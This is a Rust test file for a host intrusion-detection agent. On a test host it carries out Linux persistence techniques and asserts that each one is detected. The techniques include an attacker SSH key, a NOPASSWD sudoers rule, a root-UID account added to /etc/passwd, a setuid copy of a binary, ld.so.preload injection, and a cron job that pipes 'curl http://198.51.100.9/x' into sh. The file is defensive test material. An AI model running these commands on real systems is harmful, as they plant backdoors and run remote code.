//! What somebody does on a booted host to stay there, and what a real dpkg does. Each story needs root; without it the story says
//! so and is not told.

use picket_tests::booted::Booted;
use picket_tests::line::Line;
use picket_tests::network::run;
use serde_json::Value;
use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

/// Two folders whose file system tells who writes, which the overlay that the host lies on does not.
const PREPARED: &str = "mkdir -p /var/www /run/story && mount -t tmpfs tmpfs /run/story && cp -a /etc/. /run/story/ \
    && mount --bind /run/story /etc && mount -t tmpfs tmpfs /var/www && mkdir -p /var/www/html/uploads /root/.ssh /etc/sudoers.d \
    && cp /bin/cp /usr/local/bin/php-fpm8.2";

/// What is done, each with the title of the rule that finds it and the file.
const DONE: &[(&str, &str, &str)] = &[
    (
        "echo 'ssh-ed25519 AAAA mallory' >> /root/.ssh/authorized_keys",
        "Key that may log in added",
        "/root/.ssh/authorized_keys",
    ),
    (
        "echo 'www-data ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/zz",
        "Everything without a password by sudo",
        "/etc/sudoers.d/zz",
    ),
    (
        "echo '* * * * * root curl -s http://198.51.100.9/x | sh' > /etc/cron.d/zz",
        "Job that fetches, decodes or runs from a shared folder",
        "/etc/cron.d/zz",
    ),
    (
        "echo '17 * * * * root /usr/local/bin/zz' >> /etc/crontab",
        "Job of cron added",
        "/etc/crontab",
    ),
    (
        "printf '[Service]\\nExecStart=/usr/local/bin/zz\\n' > /etc/systemd/system/zz.service",
        "Unit of systemd added or changed",
        "/etc/systemd/system/zz.service",
    ),
    (
        "echo '# auth sufficient pam_permit.so' >> /etc/pam.d/su",
        "Module or setting of PAM changed",
        "/etc/pam.d/su",
    ),
    (
        "echo 'export ZZ=1' > /etc/profile.d/zz.sh",
        "Profile of all shells changed",
        "/etc/profile.d/zz.sh",
    ),
    (
        "echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd",
        "Account with the number of root",
        "/etc/passwd",
    ),
    (
        "cp /bin/id /etc/zz-id; chmod 4755 /etc/zz-id",
        "Program that runs as another user appeared",
        "/etc/zz-id",
    ),
    (
        "/usr/local/bin/php-fpm8.2 /etc/hostname /var/www/html/uploads/zz.php",
        "Script put where uploads lie by a web server",
        "/var/www/html/uploads/zz.php",
    ),
    // From here on every program says that it cannot be loaded.
    (
        "echo /usr/local/lib/zz.so > /etc/ld.so.preload",
        "Library loaded into every program",
        "/etc/ld.so.preload",
    ),
];

fn is_found(value: &Value, title: &str, path: &str) -> bool {
    value["record"] == "finding"
        && value["body"]["rule"]["title"] == title
        && value["body"]["file"]["path"] == path
}

fn line(host: &Booted) -> Line {
    host.run("sh", &["-c", PREPARED]);
    let settings = "[process]\nsensor = \"ebpf\"\n[files]\nsensor = \"auto\"\n";
    let mut line = Line::inside(host, "", settings);
    line.start_agent();
    line
}

#[test]
fn whatever_somebody_does_to_stay_is_found_where_files_are_watched_by_themselves() {
    if let Some(reason) = Booted::missing() {
        println!("skipped: {reason}");
        return;
    }
    let host = Booted::start();
    let mut line = line(&host);
    for (done, title, path) in DONE {
        host.run("sh", &["-c", done]);
        let finding = line.wait_for(|value| is_found(value, title, path));
        assert_ne!(finding["body"]["rule"]["attack"], Value::Null, "{finding}");
    }
    line.end_agent(false);
    line.end_collector(false);
}

/// A package that brings what would be findings if somebody else had brought it, and whose script writes one file more that is in no list.
fn package(folder: &Path) {
    let write = |path: &str, text: &str, mode: u32| {
        let path = folder.join("tree").join(path);
        fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
        fs::write(&path, text).expect("a file");
        fs::set_permissions(&path, fs::Permissions::from_mode(mode)).expect("a mode");
    };
    write(
        "DEBIAN/control",
        "Package: story\nVersion: 1\nArchitecture: all\nMaintainer: nobody <nobody@example.com>\nDescription: a story\n",
        0o644,
    );
    write(
        "DEBIAN/postinst",
        "#!/bin/sh\necho '7 * * * * root /usr/local/bin/x' > /etc/cron.d/brought-by-the-script\n",
        0o755,
    );
    write("etc/cron.d/story", "5 * * * * root /usr/bin/story\n", 0o644);
    write("etc/sudoers.d/story", "%story ALL=(root) NOPASSWD: ALL\n", 0o440);
    write("etc/profile.d/story.sh", "export STORY=1\n", 0o644);
    write("etc/story-id", "#!/bin/sh\n", 0o4755);
    // These lie where nobody sees who writes.
    write("usr/bin/story-id", "#!/bin/sh\n", 0o4755);
    write(
        "usr/lib/systemd/system/story.service",
        "[Service]\nExecStart=/usr/bin/story\n",
        0o644,
    );
    run(Command::new("dpkg-deb")
        .args(["--root-owner-group", "--build"])
        .arg(folder.join("tree"))
        .arg(folder.join("story.deb")));
}

/// The one sum of what dpkg did, once it has been received.
fn summary(line: &Line) -> Value {
    let started = Instant::now();
    loop {
        let found = line.collect(&["search", "\"kind\":\"install\"", "--text", "--json"]);
        let mut lines = found.lines();
        match (lines.next(), lines.next()) {
            (Some(first), None) => return serde_json::from_str(first).expect("JSON"),
            (None, _) => assert!(started.elapsed() < Duration::from_secs(60), "it did not come"),
            (Some(_), Some(_)) => panic!("it is told more than once: {found}"),
        }
    }
}

#[test]
fn what_dpkg_brings_is_told_once_and_what_its_script_adds_is_found() {
    if let Some(reason) = Booted::missing() {
        println!("skipped: {reason}");
        return;
    }
    let host = Booted::start();
    let mut line = line(&host);
    package(&host.shared());
    let deb = host.shared().join("story.deb");
    host.run("dpkg", &["-i", &deb.display().to_string()]);
    let added = "/etc/cron.d/brought-by-the-script";
    line.wait_for(|value| is_found(value, "Job of cron added", added));
    let summary = summary(&line);
    let install = &summary["body"]["payload"];
    assert_eq!(install["packages"][0]["name"], "story", "{summary}");
    assert!(
        install["packages"][0]["files"]
            .as_u64()
            .is_some_and(|files| files >= 4),
        "{summary}"
    );
    assert!(
        install["agreed"].as_u64().is_some_and(|agreed| agreed >= 3),
        "{summary}"
    );
    assert!(
        install["manager"]["executable"]
            .as_str()
            .is_some_and(|path| path.ends_with("/dpkg")),
        "{summary}"
    );
    let found = line.collect(&["findings", "--json"]);
    let values = found
        .lines()
        .map(|text| serde_json::from_str::<Value>(text).expect("JSON"));
    let of_the_package: Vec<Value> = values
        .filter(|value| {
            value["body"]["file"]["path"]
                .as_str()
                .is_some_and(|path| path.contains("story") && !path.ends_with(".deb"))
        })
        .collect();
    assert_eq!(of_the_package, [] as [Value; 0]);
    // The same by hand is one.
    host.run(
        "sh",
        &["-c", "echo '6 * * * * root /usr/bin/story' >> /etc/cron.d/story"],
    );
    line.wait_for(|value| is_found(value, "Job of cron added", "/etc/cron.d/story"));
    line.end_agent(false);
    line.end_collector(false);
}
